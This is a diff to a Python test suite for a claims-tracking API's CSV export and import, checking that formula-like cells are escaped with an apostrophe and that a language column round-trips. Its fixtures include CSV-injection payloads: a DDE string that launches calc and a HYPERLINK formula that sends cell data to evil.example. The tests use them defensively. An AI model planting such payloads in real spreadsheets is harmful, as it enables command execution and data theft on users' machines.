@@ -330,6 +330,30 @@ def test_the_schema_still_answers_the_format_it_is_asked_for(api: Api) -> None:
 # --- The export is what the documents say ----------------------------------------------------
 
 
+# A free-text cell that a spreadsheet program would take for a formula gets an apostrophe.
+_FREE_TEXT = {
+    COLUMNS.index(name)
+    for name in (
+        "statement",
+        "subject",
+        "indicator",
+        "unit",
+        "place",
+        "attributed_to",
+        "attributed_to_name",
+        "reported_in_url",
+        "reported_in_publisher",
+        "said_by",
+        "relayed_by",
+        "relayed_by_names",
+    )
+}
+
+
+def _escaped(cell: str) -> str:
+    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell
+
+
 def _document_row(doc: dict[str, Any], names: dict[str, str]) -> list[str]:
     """The export's row for a claim, written here from its API document, field by field."""
     value = doc["value"] or {}
@@ -362,8 +386,10 @@ def _document_row(doc: dict[str, Any], names: dict[str, str]) -> list[str]:
         doc["said_by"],
         "; ".join(relays),
         "; ".join(names[r] for r in relays),
+        doc["language"],
     ]
-    return ["" if cell is None else str(cell) for cell in cells]
+    text = ["" if cell is None else str(cell) for cell in cells]
+    return [_escaped(cell) if i in _FREE_TEXT else cell for i, cell in enumerate(text)]
 
 
 def _expected_csv(api: Api, query: str) -> bytes:
@@ -403,6 +429,8 @@ def test_the_export_is_what_the_documents_say(api: Api, demo: Ids) -> None:
     odd = editor.post("/api/v1/sources/", {"name": name, "kind": "media"}, format="json")
     assert odd.status_code == 201, odd.content
     odd_source = odd.json()["id"]
+    formula = {"name": "=cmd|' /C calc'!A0", "kind": "media"}
+    formula_source = editor.post("/api/v1/sources/", formula, format="json").json()["id"]
     bodies: list[dict[str, Any]] = [
         {  # a proposition: no value, a place, a period
             "statement": "The army took part in the shooting.",
@@ -442,6 +470,23 @@ def test_the_export_is_what_the_documents_say(api: Api, demo: Ids) -> None:
             "value": {"amount": "7", "unit": "percent", "qualifier": "approximately"},
             "attributed_to": demo["source:un"],
         },
+        {  # text a spreadsheet would take for a formula; a negative figure, in Spanish
+            "statement": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "subject": "+Guatemala",
+            "place": "@Quiché",
+            "value": {"amount": "-5", "unit": "-degrees", "qualifier": "approximately"},
+            "attributed_to": formula_source,
+            "said_by": "-officials",
+            "relayed_by": [demo["source:wilson"], demo["source:gt-officials"]],
+            "reported_in": {"url": "https://example.org/=x", "publisher": formula_source},
+            "language": "es",
+        },
+        {  # relayed by the source whose name is a formula: the joined names are escaped
+            "statement": "@channel relayed it.",
+            "subject": "Guatemala",
+            "attributed_to": demo["source:un"],
+            "relayed_by": [formula_source, odd_source],
+        },
     ]
     for body in bodies:
         created = editor.post("/api/v1/claims/", body, format="json")
@@ -469,6 +514,10 @@ def test_the_export_is_what_the_documents_say(api: Api, demo: Ids) -> None:
     assert any(r["amount"] == "" and r["unit"] == "" for r in whole), "a proposition"
     assert any(r["lower"] != r["upper"] for r in whole), "a hedged figure"
     assert any("\n" in r["statement"] and '"' in r["statement"] for r in whole)
+    assert {r["statement"][:2] for r in whole} >= {"'=", "'@"}, "formulas escaped"
+    assert any(r["amount"] == "-5" and r["lower"].startswith("-") for r in whole)
+    assert any(r["relayed_by_names"].startswith("'=cmd") for r in whole)
+    assert {r["language"] for r in whole} == {"en", "es"}
 
 
 def test_the_45_percent_claim_exports_its_attribution_chain(api: Api, demo: Ids) -> None:
@@ -521,6 +570,210 @@ def test_the_attribution_chain_is_imported(api: Api, demo: Ids) -> None:
         "created": 0,
         "skipped": 2,
     }
+
+
+# --- Formulas: escaped in the export, unescaped by the import ------------------------------------
+
+
+def _export_of(docs: list[dict[str, Any]]) -> bytes:
+    """The backend's export of these documents (in this order), as the claim list writes it."""
+    from django.db import connection
+
+    from claims.core import eventstore, selectors
+
+    cast = "%s::jsonb" if connection.vendor == "postgresql" else "%s"
+    rows = " UNION ALL ".join(f"SELECT {n} AS n, {cast} AS document" for n in range(len(docs)))
+    query = f"SELECT docs.document FROM ({rows}) AS docs ORDER BY docs.n"
+    params = [json.dumps(doc) for doc in docs]
+    return b"".join(eventstore.backend().export_csv(query, params, selectors.EXPORT_COLUMNS, 1))
+
+
+def test_the_export_escapes_formulas_byte_for_byte(api: Api, demo: Ids) -> None:
+    """Each character that starts a formula (=, +, -, @, TAB, CR) at the start of a free-text
+    cell gets an apostrophe, on either database, the same bytes: a joined cell on its joined
+    text, a source's name too. Amounts, ids and other columns are written as they are."""
+    editor = api("editor")
+    made = [
+        editor.post("/api/v1/sources/", {"name": name, "kind": "media"}, format="json")
+        for name in ("@SUM(1+1)", "Plain, Name")
+    ]
+    assert all(m.status_code == 201 for m in made), [m.content for m in made]
+    formula, plain = (m.json()["id"] for m in made)
+    docs: list[dict[str, Any]] = [
+        {
+            "id": "c-1",
+            "version": 2,
+            "status": "reported",
+            "statement": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "subject": "+Guatemala",
+            "indicator": "-rate",
+            "value": {
+                "amount": "-5",
+                "unit": "=units",
+                "qualifier": "exact",
+                "lower": "-5",
+                "upper": "-5",
+            },
+            "period": {"start": "2012-01-01", "end": "2012-12-31"},
+            "place": "@Quiché",
+            "attributed_to": formula,
+            "reported_in": {
+                "url": "-https://x",
+                "publisher": "\tTabbed",
+                "published_at": "2013-01-02",
+            },
+            "created_at": "2013-01-01T00:00:00Z",
+            "updated_at": "2013-01-02T00:00:00Z",
+            "occurred_at": "2013-01-01T00:00:00Z",
+            "said_by": "\rCarriage",
+            "relayed_by": ["-first", formula],
+            "language": "es",
+        },
+        {
+            "id": "=id",
+            "version": 1,
+            "status": "reported",
+            "statement": "a=b, +c",
+            "subject": -3,
+            "indicator": None,
+            "value": None,
+            "place": "two\nlines",
+            "attributed_to": plain,
+            "reported_in": None,
+            "created_at": "2013-01-01T00:00:00Z",
+            "updated_at": "2013-01-01T00:00:00Z",
+            "said_by": None,
+            "relayed_by": [formula, plain],
+        },
+    ]
+    expected = (
+        ",".join(COLUMNS).encode()
+        + b"\r\n"
+        + (
+            'c-1,2,reported,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'
+            "'+Guatemala,'-rate,-5,'=units,exact,-5,-5,2012-01-01,2012-12-31,'@Quiché,"
+            f"{formula},'@SUM(1+1),'-https://x,2013-01-01T00:00:00Z,2013-01-02T00:00:00Z,"
+            "'\tTabbed,2013-01-02,2013-01-01T00:00:00Z,\"'\rCarriage\","
+            f"'-first; {formula},; @SUM(1+1),es\r\n"
+            f'=id,1,reported,"a=b, +c",\'-3,,,,,,,,,"two\nlines",{plain},"Plain, Name",,'
+            "2013-01-01T00:00:00Z,2013-01-01T00:00:00Z,,,,,"
+            f'{formula}; {plain},"\'@SUM(1+1); Plain, Name",\r\n'
+        ).encode()
+    )
+    assert _export_of(docs) == expected
+
+
+def _claims_csv(api: Api, query: str) -> bytes:
+    return _csv(api("anonymous").get(f"/api/v1/claims/?format=csv&{query}"))
+
+
+def test_an_exported_formula_imports_back_as_it_was(api: Api, demo: Ids) -> None:
+    """The escaped file imports to claims saying what the originals say (no apostrophe), a
+    negative figure and a Spanish claim included; importing it again creates nothing."""
+    editor = api("editor")
+    source = editor.post("/api/v1/sources/", {"name": "Formulas", "kind": "media"}, format="json")
+    assert source.status_code == 201, source.content
+    src = source.json()["id"]
+    triggers = ("=", "+", "-", "@")
+    bodies: list[dict[str, Any]] = [
+        {
+            "statement": f'{t}HYPERLINK("http://evil.example/?"&A1,"click") {i}',
+            "subject": f"{t}Guatemala",
+            "place": f"{t}Quiché",
+            "said_by": f"{t}officials",
+            "attributed_to": src,
+        }
+        for i, t in enumerate(triggers)
+    ]
+    bodies.append(
+        {
+            "statement": "La tasa de homicidios bajó.",
+            "subject": "Guatemala",
+            "value": {"amount": "-5", "unit": "percent", "qualifier": "exact"},
+            "attributed_to": src,
+            "language": "es",
+        }
+    )
+    for body in bodies:
+        created = editor.post("/api/v1/claims/", body, format="json")
+        assert created.status_code == 201, created.content
+    exported = _claims_csv(api, f"attributed_to={src}")
+    rows = _rows(exported)
+    assert len(rows) == len(bodies)
+    for t in triggers:
+        assert f"'{t}Guatemala,".encode() in exported
+        assert f",'{t}Quiché,".encode() in exported
+        assert f",'{t}officials,".encode() in exported
+        assert f'"\'{t}HYPERLINK(""http://evil.example/?""&A1'.encode() in exported
+    spanish = next(r for r in rows if r["language"] == "es")
+    assert (spanish["amount"], spanish["lower"], spanish["upper"]) == ("-5", "-5", "-5")
+    assert b",-5,percent,exact,-5,-5," in exported, "a negative amount is not escaped"
+    contributor = api("contributor")
+    answer = contributor.post("/api/v1/imports/", exported, content_type="text/csv")
+    assert answer.status_code == 201, answer.content
+    assert answer.json() == {"created": len(bodies), "skipped": 0}
+    documents = api("anonymous").get(f"/api/v1/claims/?attributed_to={src}&page_size=50").json()
+    said = sorted(
+        (d["statement"], d["subject"], d["place"], d["said_by"], d["language"], str(d["value"]))
+        for d in documents["results"]
+    )
+    assert len(said) == 2 * len(bodies)
+    assert said[::2] == said[1::2], "each imported claim says what its original says"
+    assert {d["statement"][0] for d in documents["results"]} >= set(triggers)
+    assert sum(d["language"] == "es" for d in documents["results"]) == 2
+    # Exported again, each imported row is its original's (the same escaped text).
+    again = _rows(_claims_csv(api, f"attributed_to={src}"))
+    kept = [c for c in COLUMNS if c not in IGNORED_ON_IMPORT]
+    cells = sorted(tuple(r[c] for c in kept) for r in again)
+    assert cells[::2] == cells[1::2]
+    # The same file again, and the file exported after the import: nothing new.
+    repeat = contributor.post("/api/v1/imports/", exported, content_type="text/csv")
+    assert repeat.json() == {"created": 0, "skipped": len(bodies)}
+    # An escaped cell and the same text typed without the apostrophe are the same row.
+    typed = exported.decode().replace("'=", "=").replace("'+", "+").replace("'@", "@")
+    typed = typed.replace(",'-", ",-").replace("\"'-", '"-')
+    assert "'" not in typed
+    same = contributor.post("/api/v1/imports/", typed.encode(), content_type="text/csv")
+    assert same.json() == {"created": 0, "skipped": len(bodies)}, typed
+
+
+def test_the_language_column_is_imported(api: Api, demo: Ids) -> None:
+    """A Spanish row becomes a Spanish claim, an empty cell English, a language the tracker
+    does not record a row error naming the column; a file written before the column existed
+    keeps its rows' keys (importing it again with the column skips them)."""
+    un = demo["source:un"]
+    old = _file(3, un)  # the columns a file had before language
+    contributor = api("contributor")
+    first = contributor.post("/api/v1/imports/", old, content_type="text/csv")
+    assert first.json() == {"created": 3, "skipped": 0}, first.content
+    lines = old.decode().splitlines()
+    with_column = "\n".join(
+        [lines[0] + ",language", lines[1] + ",", lines[2] + ",en", lines[3] + ",EN "]
+    )
+    again = contributor.post("/api/v1/imports/", with_column.encode(), content_type="text/csv")
+    assert again.json() == {"created": 0, "skipped": 3}, again.content
+    header = "statement,subject,attributed_to,language"
+    body = f"{header}\nDicho en español.,Guatemala,{un},es\nSaid in English.,Guatemala,{un},\n"
+    answer = contributor.post("/api/v1/imports/", body.encode(), content_type="text/csv")
+    assert answer.status_code == 201, answer.content
+    docs = api("anonymous").get(f"/api/v1/claims/?attributed_to={un}&page_size=100").json()
+    language = {d["statement"]: d["language"] for d in docs["results"]}
+    assert language["Dicho en español."] == "es"
+    assert language["Said in English."] == "en"
+    assert language["Figure 1 for Guatemala."] == "en"
+    rows = {r["statement"]: r for r in _rows(_claims_csv(api, f"attributed_to={un}"))}
+    assert rows["Dicho en español."]["language"] == "es"
+    assert rows["Said in English."]["language"] == "en"
+    bad = f"{header}\nEn français.,Guatemala,{un},fr\n".encode()
+    refused = contributor.post("/api/v1/imports/", bad, content_type="text/csv")
+    assert refused.status_code == 400
+    assert refused.json()["errors"] == [
+        {
+            "row": 1,
+            "field": "language",
+            "message": "Unsupported language 'fr'; expected one of: en, es.",
+        }
+    ]
 
 
 # --- A reader that leaves mid-export -------------------------------------------------------------
